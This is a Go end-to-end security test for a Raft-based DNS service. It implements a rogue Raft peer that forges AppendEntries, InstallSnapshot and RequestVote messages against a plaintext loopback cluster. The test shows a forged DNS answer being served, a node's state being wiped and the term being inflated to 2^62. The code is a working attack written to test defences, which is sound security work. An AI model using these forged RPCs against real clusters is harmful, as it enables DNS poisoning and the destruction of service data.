package e2e

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/hashicorp/raft"
)

// A rogue Raft peer is an attacker who reaches a node's Raft port and
// speaks hashicorp/raft's wire protocol (NetworkTransport), from a chosen
// loopback source address, in plaintext or over TLS with a certificate
// that is not the cluster's.

// rogueStream is the attacker's raft.StreamLayer.
type rogueStream struct {
	net.Listener
	src *net.TCPAddr
	tls *tls.Config // nil: plaintext
}

func (s *rogueStream) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	d := &net.Dialer{Timeout: timeout, LocalAddr: s.src}
	if s.tls == nil {
		return d.Dial("tcp", string(addr))
	}
	return tls.DialWithDialer(d, "tcp", string(addr), s.tls)
}

// rogue is one attacker: a raft NetworkTransport and who it pretends to be.
type rogue struct {
	t     *testing.T
	name  string
	src   string // source IP of its connections
	trans *raft.NetworkTransport
}

// newRogue listens on src:0 and dials from src, with tlsCfg when not nil.
func newRogue(t *testing.T, name, src string, tlsCfg *tls.Config) *rogue {
	t.Helper()
	ln, err := net.Listen("tcp", net.JoinHostPort(src, "0"))
	if err != nil {
		t.Fatal(err)
	}
	if tlsCfg != nil {
		ln = tls.NewListener(ln, tlsCfg)
	}
	st := &rogueStream{Listener: ln, src: &net.TCPAddr{IP: net.ParseIP(src)}, tls: tlsCfg}
	tr := raft.NewNetworkTransport(st, 1, 5*time.Second*slow, io.Discard)
	t.Cleanup(func() { tr.Close() })
	return &rogue{t: t, name: name, src: src, trans: tr}
}

// header poses as member id.
func (r *rogue) header(id string) raft.RPCHeader {
	return raft.RPCHeader{
		ProtocolVersion: raft.ProtocolVersionMax,
		ID:              []byte(id),
		Addr:            r.trans.EncodePeer(raft.ServerID(id), r.trans.LocalAddr()),
	}
}

// probe asks n for its current term and last log index with an
// AppendEntries of term 0, which raft ignores (an older term) and answers.
func (r *rogue) probe(n *Node) (term, last uint64, err error) {
	var resp raft.AppendEntriesResponse
	err = r.trans.AppendEntries(raft.ServerID(n.ID), raft.ServerAddress(n.RaftAddr),
		&raft.AppendEntriesRequest{RPCHeader: r.header("probe")}, &resp)
	return resp.Term, resp.LastLog, err
}

// forgedServicePut is a log entry as bgdns writes it (a tag byte, then the
// command's JSON) that puts svcName with one blue address, 203.0.113.66,
// and a TTL of 300.
func forgedServicePut() []byte {
	cmd := map[string]any{
		"op":         "service.put",
		"name":       strings.TrimSuffix(svcName, "."),
		"time":       time.Now().UTC(),
		"actor":      "rogue",
		"request_id": "rogue-1",
		"service": map[string]any{
			"ttl": 300, "active": "blue",
			"blue": map[string]any{"version": "6.6.6", "addresses": []string{forgedAddr}},
		},
	}
	b, _ := json.Marshal(cmd)
	return append([]byte{0x01}, b...)
}

const forgedAddr = "203.0.113.66"

// inject sends n, posing as leader id, an AppendEntries of n's current
// term that appends the forged entry after n's last one and commits it.
func (r *rogue) inject(n *Node, leaderID string) (raft.AppendEntriesResponse, error) {
	var resp raft.AppendEntriesResponse
	term, last, err := r.probe(n)
	if err != nil {
		return resp, err
	}
	req := &raft.AppendEntriesRequest{
		RPCHeader: r.header(leaderID),
		Term:      term,
		// PrevLogEntry 0: raft checks no previous entry.
		Entries: []*raft.Log{{
			Index: last + 1, Term: term, Type: raft.LogCommand,
			Data: forgedServicePut(), AppendedAt: time.Now(),
		}},
		LeaderCommitIndex: last + 1,
	}
	err = r.trans.AppendEntries(raft.ServerID(n.ID), raft.ServerAddress(n.RaftAddr), req, &resp)
	return resp, err
}

// hugeTerm is the term of the forged vote request.
const hugeTerm = uint64(1) << 62

// vote asks n, posing as member id, for its vote in term 2^62 as if the
// leader had handed leadership over (which makes raft vote although it
// knows a leader).
func (r *rogue) vote(n *Node, id string) (raft.RequestVoteResponse, error) {
	var resp raft.RequestVoteResponse
	req := &raft.RequestVoteRequest{
		RPCHeader:          r.header(id),
		Term:               hugeTerm,
		LastLogIndex:       hugeTerm,
		LastLogTerm:        hugeTerm,
		LeadershipTransfer: true,
	}
	err := r.trans.RequestVote(raft.ServerID(n.ID), raft.ServerAddress(n.RaftAddr), req, &resp)
	return resp, err
}

// emptySnapshot is a bgdns snapshot of a state without zones or services:
// installed, the node answers nothing.
func emptySnapshot(index uint64) []byte {
	b, _ := json.Marshal(map[string]any{
		"bgdns_snapshot": 1, "applied": index, "members": []any{},
		"state": map[string]any{"format": 1, "index": index, "zones": []any{}, "services": []any{}},
	})
	return b
}

// wipe installs the empty snapshot on n, posing as leader id, keeping the
// cluster's voters (members) as its configuration.
func (r *rogue) wipe(n *Node, leaderID string, members []*Node) (raft.InstallSnapshotResponse, error) {
	var resp raft.InstallSnapshotResponse
	term, last, err := r.probe(n)
	if err != nil {
		return resp, err
	}
	var cfg raft.Configuration
	for _, m := range members {
		cfg.Servers = append(cfg.Servers, raft.Server{Suffrage: raft.Voter, ID: raft.ServerID(m.ID), Address: raft.ServerAddress(m.RaftAddr)})
	}
	data := emptySnapshot(last)
	req := &raft.InstallSnapshotRequest{
		RPCHeader: r.header(leaderID), SnapshotVersion: 1,
		Term: term, LastLogIndex: last, LastLogTerm: term,
		Configuration: raft.EncodeConfiguration(cfg), ConfigurationIndex: last,
		Size: int64(len(data)),
	}
	err = r.trans.InstallSnapshot(raft.ServerID(n.ID), raft.ServerAddress(n.RaftAddr), req, &resp, bytes.NewReader(data))
	return resp, err
}

// attackAll sends each of the three forged RPCs to every node and
// returns what each returned, keyed "rpc to node".
func (r *rogue) attackAll(c *Cluster, leaderID string) map[string]error {
	errs := map[string]error{}
	for _, n := range c.Nodes {
		var pose string // a member other than n
		for _, m := range c.Nodes {
			if m != n {
				pose = m.ID
				break
			}
		}
		_, err := r.inject(n, leaderID)
		errs["AppendEntries to "+n.ID] = err
		_, err = r.vote(n, pose)
		errs["RequestVote to "+n.ID] = err
		_, err = r.wipe(n, leaderID, c.Nodes)
		errs["InstallSnapshot to "+n.ID] = err
	}
	return errs
}

// putBlue creates svcName on blue through n and waits until every node
// answers it.
func putBlue(t *testing.T, c *Cluster, n *Node) {
	t.Helper()
	n.CLI("service", "put", svcName, "--ttl", "5", "--blue", strings.Join(blueV4, ","), "--blue-version", "1.0")
	c.EveryNode(10*time.Second, "blue everywhere", func(n *Node) error { return checkColour(n, blueV4) })
}

// switchGreen deploys and switches svcName to green through n with
// --wait, and checks that every node answers green at once.
func switchGreen(t *testing.T, c *Cluster, n *Node) {
	t.Helper()
	n.CLI("deploy", svcName, "--version", "2.0", "--addr", greenV4[0])
	var sw waitJSON
	if err := jsonUnmarshal(n.CLI("-o", "json", "switch", svcName, "--reason", "after the attack", "--wait"), &sw); err != nil {
		t.Fatal(err)
	}
	if sw.Wait == nil || !sw.Wait.Complete {
		t.Fatalf("switch --wait did not complete: %+v", sw)
	}
	for _, m := range c.Nodes {
		if err := checkColour(m, greenV4); err != nil {
			t.Errorf("%s after a completed switch: %v", m.ID, err)
		}
	}
}

// The attack is real: against a cluster whose Raft is plaintext (on
// loopback, where bgdns allows it), a rogue peer changes answers, wipes
// a node's state and inflates the term to 2^62. The TLS test below sends
// the same RPCs and must change nothing.
func TestSecurityRogueRaftPeerPlaintext(t *testing.T) {
	c := StartCluster(t, 3, ClusterOptions{Hosts: []string{"127.0.0.91", "127.0.0.92", "127.0.0.93"}})
	leader := c.Leader()
	putBlue(t, c, leader)
	fs := c.Followers()
	f1, f2 := fs[0], fs[1]
	r := newRogue(t, "plaintext", "127.0.0.66", nil)

	// AppendEntries: the forged entry is applied and served. The real
	// leader may append in between the probe and the injection; try again.
	eventually(t, 20*time.Second, "forged answer "+forgedAddr+" served by "+f1.ID, func() error {
		if _, err := r.inject(f1, leader.ID); err != nil {
			return err
		}
		a, err := DigE(f1.DNSAddr, svcName, "A")
		if err != nil {
			return err
		}
		return checkAddrs(a, "A", 300, forgedAddr)
	})
	t.Logf("%s answers %s with TTL 300 after a forged AppendEntries", f1.ID, forgedAddr)

	// InstallSnapshot: the other follower's state is replaced by an empty one.
	eventually(t, 20*time.Second, f2.ID+" wiped by a forged snapshot", func() error {
		resp, err := r.wipe(f2, leader.ID, c.Nodes)
		if err != nil {
			return err
		}
		if !resp.Success {
			return fmt.Errorf("InstallSnapshot not successful: %+v", resp)
		}
		a, err := DigE(f2.DNSAddr, svcName, "A")
		if err != nil {
			return err
		}
		if a.Status == "NOERROR" {
			return fmt.Errorf("still answers:\n%s", a.Raw)
		}
		return nil
	})
	t.Logf("%s no longer answers for %s after a forged InstallSnapshot", f2.ID, svcName)

	// RequestVote: the leader takes term 2^62 and grants its vote.
	resp, err := r.vote(leader, f1.ID)
	if err != nil {
		t.Fatalf("RequestVote to the plaintext leader: %v", err)
	}
	if resp.Term != hugeTerm || !resp.Granted {
		t.Fatalf("RequestVote with term 2^62 and leadership transfer: %+v, want the term taken and the vote granted", resp)
	}
	eventually(t, 20*time.Second, "every node at term 2^62 or more", func() error {
		for _, n := range c.Nodes {
			term, _, err := r.probe(n)
			if err != nil {
				return err
			}
			if term < hugeTerm {
				return fmt.Errorf("%s at term %d", n.ID, term)
			}
		}
		return nil
	})
	t.Logf("%s took term 2^62 from a forged RequestVote and voted for the rogue", leader.ID)
}
